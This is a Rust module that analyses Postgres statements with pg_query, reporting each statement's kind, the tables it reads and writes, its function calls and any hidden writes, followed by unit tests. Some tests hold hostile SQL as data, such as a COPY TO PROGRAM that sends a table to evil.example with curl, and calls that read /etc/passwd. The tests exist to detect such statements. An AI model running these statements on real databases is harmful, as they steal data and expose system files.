//! What a statement does, from the real Postgres parser (pg_query): kind, tables read and
//! written, functions called, hidden writes. Analyses are cached by statement text, so a repeated
//! statement is parsed once.

mod classify;
mod effect;
mod filter;
mod kind;
mod lineage;
mod names;
mod settings;
mod shape;
mod statement;
mod walk;

pub use effect::Effect;
pub use kind::StatementKind;
pub use lineage::{Lineage, Ref};
pub use settings::{SettingChange, SettingValue};
pub use statement::{Facts, FunctionFacts, PreparedOp, Statement, TableRef, Wrapper};

use classify::{classify, executed, node_of, prepared_op};

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use dashmap::DashMap;
use serde_json::Value;

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AnalysisError {
    /// The parser's own message, as Postgres would word it.
    #[error("{0}")]
    Syntax(String),
    #[error("statement contains a NUL byte")]
    NulByte,
}

/// The statements of one query string, in order.
pub type Analysis = Result<Arc<[Statement]>, AnalysisError>;

/// Analyses query strings, caching by text and, for single DML statements, by shape: the token
/// sequence with constants blanked, so `... WHERE aid = 1` and `... WHERE aid = 2` share one
/// analysis. (Not by fingerprint: a fingerprint also ignores aliased and numbered table names,
/// so two statements reading different tables can share one.)
pub struct Analyzer {
    cache: DashMap<Arc<str>, Analysis>,
    shapes: DashMap<String, Arc<[Statement]>>,
    capacity: usize,
}

impl Default for Analyzer {
    fn default() -> Self {
        Analyzer::new(10_000)
    }
}

impl Analyzer {
    /// A cache of at most `capacity` query strings. When full it is emptied: simple, and a
    /// workload whose distinct texts exceed the cache re-parses at the same cost either way.
    pub fn new(capacity: usize) -> Analyzer {
        Analyzer {
            cache: DashMap::new(),
            shapes: DashMap::new(),
            capacity,
        }
    }

    pub fn analyze(&self, sql: &str) -> Analysis {
        if let Some(hit) = self.cache.get(sql) {
            return hit.clone();
        }
        let shape = shape::quick_key(sql).or_else(|| shape::scanned_key(sql));
        let known = shape
            .as_ref()
            .and_then(|k| self.shapes.get(k).map(|s| s.clone()));
        let analysis = match (known, shape) {
            // Not added to the text cache: texts of one shape mostly differ only in constants
            // (pgbench's select-only has a million), so caching each would churn the cache for
            // nothing; the shape lookup costs a scan (~2 µs), not a parse. The shape's first
            // text, and every parameterised text, are cached by text.
            (Some(same_shape), _) => {
                return Ok(same_shape
                    .iter()
                    .map(|s| Statement {
                        text: statement_text(sql).to_owned(),
                        facts: s.facts.clone(),
                    })
                    .collect());
            }
            (None, Some(key)) => analyze_uncached(sql).map(|statements| {
                // A statement that changes settings may name them in constants
                // (`set_config('search_path', ...)`): its facts hold for its own text only.
                if statements.len() != 1 || !statements[0].settings.is_empty() {
                    return statements;
                }
                static NEXT_SHAPE: AtomicU64 = AtomicU64::new(1);
                let mut statements = statements.to_vec();
                Arc::make_mut(&mut statements[0].facts).shape =
                    Some(NEXT_SHAPE.fetch_add(1, Ordering::Relaxed));
                let statements: Arc<[Statement]> = statements.into();
                if self.shapes.len() >= self.capacity {
                    self.shapes.clear();
                }
                self.shapes.insert(key, statements.clone());
                statements
            }),
            (None, None) => analyze_uncached(sql),
        };
        if self.cache.len() >= self.capacity {
            self.cache.clear();
        }
        self.cache.insert(Arc::from(sql), analysis.clone());
        analysis
    }
}

/// Parses and analyses `sql` (one or more statements).
pub fn analyze_uncached(sql: &str) -> Analysis {
    if sql.contains('\0') {
        return Err(AnalysisError::NulByte);
    }
    let parsed = pg_query::parse(sql, 0).map_err(|e| AnalysisError::Syntax(parse_message(e)))?;
    let mut statements = Vec::with_capacity(parsed.protobuf.stmts.len());
    for raw in &parsed.protobuf.stmts {
        let start = raw.stmt_location.max(0) as usize;
        let text = statement_text(
            match raw.stmt_len {
                0 => sql.get(start..),
                len => sql.get(start..start + len as usize),
            }
            .unwrap_or(sql),
        );
        let tree = serde_json::to_value(&raw.stmt).unwrap_or(Value::Null);
        statements.push(analyze_statement(text, &tree));
    }
    Ok(statements.into())
}

/// A statement's own text: trimmed, without a trailing semicolon.
fn statement_text(slice: &str) -> &str {
    slice.trim().trim_end_matches(';').trim_end()
}

fn parse_message(e: pg_query::Error) -> String {
    match e {
        pg_query::Error::Parse(message) => message,
        other => other.to_string(),
    }
}

fn analyze_statement(text: &str, tree: &Value) -> Statement {
    // `tree` is `{"node": {"<NodeType>": {...}}}`.
    let (sent_type, sent) = node_of(tree).unwrap_or(("", &Value::Null));
    let (node_type, node, wrapper) = executed(sent_type, sent);
    let found = walk::walk(tree);
    let flag = |field: &str| node.get(field).and_then(Value::as_bool) == Some(true);
    let present = |field: &str| node.get(field).is_some_and(|v| !v.is_null());
    let copy_program = node_type == "CopyStmt" && flag("is_program");
    let select_into = node_type == "SelectStmt" && present("into_clause");
    let kind = classify(node_type, node, select_into);
    let parameter = match node_type {
        "VariableSetStmt" | "VariableShowStmt" => node
            .get("name")
            .and_then(Value::as_str)
            .filter(|s| !s.is_empty())
            .map(str::to_ascii_lowercase),
        _ => None,
    };
    let settings = settings::changes(tree);
    let parameter = match kind {
        StatementKind::Set | StatementKind::Reset | StatementKind::Show => parameter,
        _ => match settings.as_slice() {
            [] => None,
            [only] => Some(only.name.clone()),
            [first, rest @ ..] if rest.iter().all(|s| s.name == first.name) => {
                Some(first.name.clone())
            }
            _ => Some("*".to_owned()),
        },
    };
    let prepared = prepared_op(sent_type, sent, node_type, node);
    let wrapper = match prepared {
        Some(PreparedOp::Execute(_)) => Some(Wrapper::Execute),
        _ => wrapper,
    };
    let cursor = match sent_type {
        "DeclareCursorStmt" | "FetchStmt" | "ClosePortalStmt" => sent
            .get("portalname")
            .and_then(Value::as_str)
            .map(str::to_owned),
        _ => None,
    };
    let writes = match kind {
        StatementKind::Insert
        | StatementKind::Update
        | StatementKind::Delete
        | StatementKind::Merge
        | StatementKind::CopyIn
        | StatementKind::Ddl
        | StatementKind::Call
        | StatementKind::DoBlock => true,
        // Plain EXPLAIN only plans its statement (EXPLAIN ANALYZE is unwrapped above).
        StatementKind::Explain => false,
        _ => found.nested_write,
    } || copy_program;
    let effect = effect::effect(kind, node, &found.functions, writes, copy_program);
    let facts = Facts {
        fingerprint: pg_query::fingerprint(text, 0, 0)
            .map(|f| f.value)
            .unwrap_or_default(),
        kind,
        command: node_type.to_owned(),
        wrapper,
        parameter,
        settings,
        prepared,
        cursor,
        tables_read: found.tables_read,
        tables_written: found.tables_written,
        functions: found.functions,
        has_where: matches!(node_type, "UpdateStmt" | "DeleteStmt") && present("where_clause"),
        unfiltered_write: writes && found.unfiltered_write,
        writes,
        copy_program,
        effect,
        lineage: lineage::lineage(tree),
        shape: None,
        calls_volatile_user_function: false,
        user_functions: Vec::new(),
    };
    Statement {
        text: text.to_owned(),
        facts: Arc::new(facts),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> Statement {
        let all = analyze_uncached(sql).unwrap();
        assert_eq!(all.len(), 1, "{sql}");
        all[0].clone()
    }

    fn names(tables: &[TableRef]) -> Vec<String> {
        let mut v: Vec<String> = tables.iter().map(|t| t.to_string()).collect();
        v.sort();
        v
    }

    #[test]
    fn select_reads_tables_and_calls_functions() {
        let s = one("SELECT upper(c.name) FROM public.customers c JOIN orders o ON o.cid = c.id");
        assert_eq!(s.kind, StatementKind::Select);
        assert_eq!(names(&s.tables_read), ["orders", "public.customers"]);
        assert!(s.tables_written.is_empty());
        assert_eq!(s.functions, ["upper"]);
        assert!(!s.writes);
    }

    #[test]
    fn update_and_delete_report_their_where_clause() {
        assert!(one("UPDATE t SET a = 1 WHERE id = 2").has_where);
        assert!(!one("UPDATE t SET a = 1").has_where);
        assert!(!one("DELETE FROM t").has_where);
        let d = one("DELETE FROM s.t WHERE id IN (SELECT id FROM u)");
        assert!(d.has_where && d.writes);
        assert_eq!(names(&d.tables_written), ["s.t"]);
        assert_eq!(names(&d.tables_read), ["u"]);
    }

    #[test]
    fn data_modifying_cte_is_a_write() {
        let s = one("WITH gone AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM gone");
        assert_eq!(s.kind, StatementKind::Select);
        assert!(s.writes);
        assert_eq!(names(&s.tables_written), ["audit"]);
        assert!(
            s.tables_read.is_empty(),
            "the CTE name is not a table: {:?}",
            s.tables_read
        );
    }

    #[test]
    fn cte_scoping_does_not_hide_a_real_table() {
        // In a plain WITH, `secrets` inside the first CTE is the table, not the later CTE.
        let s = one("WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM x");
        assert_eq!(names(&s.tables_read), ["secrets"]);
        let s = one("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT * FROM r");
        assert!(s.tables_read.is_empty());
    }

    #[test]
    fn explain_analyze_of_a_write_is_a_write_and_plain_explain_is_not() {
        assert!(one("EXPLAIN ANALYZE DELETE FROM t").writes);
        assert!(one("EXPLAIN (ANALYZE) UPDATE t SET a = 1").writes);
        assert!(!one("EXPLAIN DELETE FROM t").writes);
        assert!(!one("EXPLAIN ANALYZE SELECT 1").writes);
    }

    #[test]
    fn a_wrapper_is_judged_as_the_statement_it_runs() {
        let s = one("EXPLAIN ANALYZE CREATE TABLE copy AS SELECT * FROM customers");
        assert_eq!(s.kind, StatementKind::Ddl);
        assert_eq!(s.command, "CreateTableAsStmt");
        assert_eq!(s.wrapper, Some(Wrapper::ExplainAnalyze));
        assert_eq!(names(&s.tables_written), ["copy"]);
        for sql in [
            "EXPLAIN (ANALYZE) SELECT * INTO copy FROM customers",
            "EXPLAIN (FORMAT JSON, ANALYZE true, BUFFERS) CREATE TABLE copy AS SELECT 1",
            "EXPLAIN (ANALYZE 1) CREATE MATERIALIZED VIEW mv AS SELECT 1",
            "EXPLAIN ANALYZE VERBOSE CREATE TABLE copy AS SELECT 1",
        ] {
            assert_eq!(one(sql).kind, StatementKind::Ddl, "{sql}");
        }
        let s = one("EXPLAIN (ANALYZE off) DELETE FROM t");
        assert_eq!((s.kind, s.writes), (StatementKind::Explain, false));
        let s = one("PREPARE p(int) AS DELETE FROM t WHERE id = $1");
        assert_eq!(s.kind, StatementKind::Delete);
        assert_eq!(s.wrapper, Some(Wrapper::Prepare));
        assert_eq!(s.prepared, Some(PreparedOp::Prepare("p".into())));
        assert!(s.writes && s.has_where && !s.unfiltered_write);
        let s = one("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers");
        assert_eq!(s.kind, StatementKind::Select);
        assert_eq!(s.cursor.as_deref(), Some("c"));
        let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!(s.kind, StatementKind::CopyOut);
        assert!(s.writes && s.unfiltered_write);
        let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit");
        assert_eq!(s.kind, StatementKind::Ddl);
        assert!(s.unfiltered_write);
        assert_eq!(names(&s.tables_written), ["audit", "t"]);
    }

    #[test]
    fn executions_and_deallocations_of_named_statements_are_reported() {
        assert_eq!(
            one("EXECUTE p(1)").prepared,
            Some(PreparedOp::Execute("p".into()))
        );
        assert_eq!(
            one("EXPLAIN ANALYZE EXECUTE p").prepared,
            Some(PreparedOp::Execute("p".into()))
        );
        assert_eq!(
            one("CREATE TABLE c AS EXECUTE p").prepared,
            Some(PreparedOp::Execute("p".into()))
        );
        assert_eq!(one("EXPLAIN EXECUTE p").prepared, None, "plans only");
        assert_eq!(
            one("DEALLOCATE PREPARE p").prepared,
            Some(PreparedOp::Deallocate("p".into()))
        );
        assert_eq!(
            one("DEALLOCATE ALL").prepared,
            Some(PreparedOp::DeallocateAll)
        );
        assert_eq!(one("DISCARD ALL").prepared, Some(PreparedOp::DeallocateAll));
        assert_eq!(one("DISCARD PLANS").prepared, None);
    }

    /// Every write, wrapped in every way Postgres accepts around it, reports at least what the
    /// bare statement does: a wrapper never weakens `writes`, `unfiltered_write`, the tables
    /// written, or (for wrappers that run the statement as it is) the kind.
    #[test]
    fn wrapping_a_write_never_weakens_its_analysis() {
        let writes = [
            "DELETE FROM t",
            "DELETE FROM t WHERE true",
            "DELETE FROM t WHERE id = 1",
            "UPDATE t SET a = 1",
            "UPDATE t SET a = 1 WHERE a = 2",
            "INSERT INTO t VALUES (1)",
            "INSERT INTO t SELECT * FROM u",
            "MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE",
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a",
            "MERGE INTO t USING u ON t.id = 1 WHEN MATCHED THEN DELETE",
            "MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES (u.id)",
        ];
        // (template, runs the statement as its own kind)
        let wrappers = [
            ("EXPLAIN ANALYZE {}", true),
            ("EXPLAIN (ANALYZE, VERBOSE, FORMAT YAML) {}", true),
            ("EXPLAIN (ANALYZE on) {}", true),
            ("PREPARE p AS {}", true),
            ("PREPARE p(int, text) AS {}", true),
            ("WITH w AS ({}) SELECT 1", false),
            ("WITH w AS ({} RETURNING 1) SELECT * FROM w", false),
            ("WITH a AS (SELECT 1), w AS ({}) SELECT 1", false),
            ("EXPLAIN ANALYZE WITH w AS ({}) SELECT 1", false),
            ("PREPARE p AS WITH w AS ({}) SELECT 1", false),
            ("WITH w AS ({}) INSERT INTO log VALUES (1)", false),
            ("WITH w AS ({}) DELETE FROM log WHERE id = 1", false),
            ("COPY ({} RETURNING *) TO STDOUT", false),
            (
                "CREATE TABLE c AS WITH w AS ({} RETURNING 1) SELECT * FROM w",
                false,
            ),
        ];
        for bare_sql in writes {
            let bare = one(bare_sql);
            assert!(bare.writes, "{bare_sql}");
            for (template, same_kind) in wrappers {
                if template.contains("RETURNING") && bare_sql.contains("RETURNING") {
                    continue;
                }
                let sql = template.replace("{}", bare_sql);
                // Some wrappings are not valid SQL (INSERT ... RETURNING in COPY is; others
                // are refused by the parser): those cannot reach Postgres either.
                let Ok(all) = analyze_uncached(&sql) else {
                    continue;
                };
                let wrapped = &all[0];
                assert!(wrapped.writes, "{sql}");
                assert!(
                    !bare.unfiltered_write || wrapped.unfiltered_write,
                    "{sql}: the bare statement is an unfiltered write"
                );
                for table in &bare.tables_written {
                    assert!(wrapped.tables_written.contains(table), "{sql}: {table}");
                }
                if same_kind {
                    assert_eq!(wrapped.kind, bare.kind, "{sql}");
                }
            }
        }
    }

    #[test]
    fn select_into_and_copy_program_are_writes() {
        let s = one("SELECT * INTO copy_of FROM customers");
        assert!(s.writes);
        assert_eq!(names(&s.tables_written), ["copy_of"]);
        let c = one("COPY customers TO PROGRAM 'curl -d @- evil.example'");
        assert!(c.copy_program && c.writes);
        assert_eq!(c.kind, StatementKind::CopyOut);
        assert_eq!(one("COPY t FROM STDIN").kind, StatementKind::CopyIn);
    }

    #[test]
    fn functions_hidden_in_array_constructors_and_collations_are_found() {
        let s = one("SELECT ARRAY[pg_catalog.pg_read_file('/etc/passwd')]");
        assert_eq!(s.functions, ["pg_catalog.pg_read_file"]);
        let s = one("SELECT (lo_import('/etc/passwd'))::text COLLATE \"C\"");
        assert_eq!(s.functions, ["lo_import"]);
        let s = one("PREPARE p AS SELECT pg_read_file('x')");
        assert_eq!(s.functions, ["pg_read_file"]);
    }

    #[test]
    fn set_reset_and_show_carry_the_parameter() {
        let s = one("SET ROLE postgres");
        assert_eq!(
            (s.kind, s.parameter.as_deref()),
            (StatementKind::Set, Some("role"))
        );
        let s = one("SET SESSION AUTHORIZATION postgres");
        assert_eq!(s.parameter.as_deref(), Some("session_authorization"));
        let s = one("RESET ROLE");
        assert_eq!(
            (s.kind, s.parameter.as_deref()),
            (StatementKind::Reset, Some("role"))
        );
        assert_eq!(one("SHOW search_path").kind, StatementKind::Show);
    }

    #[test]
    fn multi_statement_strings_are_split_with_their_own_text() {
        let all = analyze_uncached("SELECT 1; DROP TABLE t; /* x */ COMMIT").unwrap();
        let kinds: Vec<_> = all.iter().map(|s| s.kind).collect();
        assert_eq!(
            kinds,
            [
                StatementKind::Select,
                StatementKind::Ddl,
                StatementKind::Transaction
            ]
        );
        assert_eq!(all[1].text, "DROP TABLE t");
        assert_eq!(names(&all[1].tables_written), ["t"]);
    }

    #[test]
    fn ddl_kinds_and_targets() {
        assert_eq!(one("CREATE TABLE t (a int)").kind, StatementKind::Ddl);
        assert_eq!(names(&one("TRUNCATE a, b").tables_written), ["a", "b"]);
        assert_eq!(one("GRANT SELECT ON t TO bob").kind, StatementKind::Ddl);
        assert_eq!(
            one("ALTER TABLE t ADD COLUMN b int").kind,
            StatementKind::Ddl
        );
    }

    #[test]
    fn statements_differing_only_in_constants_share_an_analysis_but_not_their_text() {
        let analyzer = Analyzer::default();
        let a = analyzer
            .analyze("SELECT name FROM items WHERE id = 1")
            .unwrap();
        let b = analyzer
            .analyze("SELECT name FROM items WHERE id = 2")
            .unwrap();
        assert_eq!(b[0].text, "SELECT name FROM items WHERE id = 2");
        assert!(Arc::ptr_eq(&a[0].facts, &b[0].facts));
        // With a comment, by the real scanner's shape.
        let c = analyzer
            .analyze("SELECT name FROM items WHERE id = 3 -- other")
            .unwrap();
        let d = analyzer
            .analyze("SELECT name FROM items /* x */ WHERE id = 4")
            .unwrap();
        assert_eq!(d[0].text, "SELECT name FROM items /* x */ WHERE id = 4");
        assert!(Arc::ptr_eq(&c[0].facts, &d[0].facts));
        assert_eq!(a[0].tables_read, d[0].tables_read);
        assert_eq!(analyzer.shapes.len(), 2);
    }

    #[test]
    fn settings_named_in_constants_are_never_taken_from_another_text_of_the_shape() {
        let analyzer = Analyzer::default();
        let first = analyzer
            .analyze("SELECT set_config('work_mem', '8MB', false)")
            .unwrap();
        let second = analyzer
            .analyze("SELECT set_config('search_path', 'evil', false)")
            .unwrap();
        assert_eq!(first[0].parameter.as_deref(), Some("work_mem"));
        assert_eq!(second[0].parameter.as_deref(), Some("search_path"));
        assert_eq!(second[0].shape, None);
    }

    #[test]
    fn aliased_tables_do_not_share_an_analysis() {
        let analyzer = Analyzer::default();
        let a = analyzer.analyze("SELECT * FROM allowed a").unwrap();
        let b = analyzer.analyze("SELECT * FROM secrets a").unwrap();
        assert_ne!(a[0].tables_read, b[0].tables_read);
        let c = analyzer.analyze("SELECT * FROM allowed a -- x").unwrap();
        let d = analyzer.analyze("SELECT * FROM secrets a -- x").unwrap();
        assert_ne!(c[0].tables_read, d[0].tables_read);
    }

    #[test]
    fn unparsable_sql_is_an_error_with_the_parser_message() {
        let err = analyze_uncached("SELEC 1").unwrap_err();
        assert!(err.to_string().contains("syntax error"), "{err}");
    }

    #[test]
    fn equal_statements_up_to_constants_share_a_fingerprint() {
        assert_eq!(
            one("SELECT * FROM t WHERE id = 1").fingerprint,
            one("SELECT * FROM t WHERE id = 42").fingerprint
        );
        assert_ne!(
            one("SELECT * FROM t").fingerprint,
            one("SELECT * FROM u").fingerprint
        );
    }
}
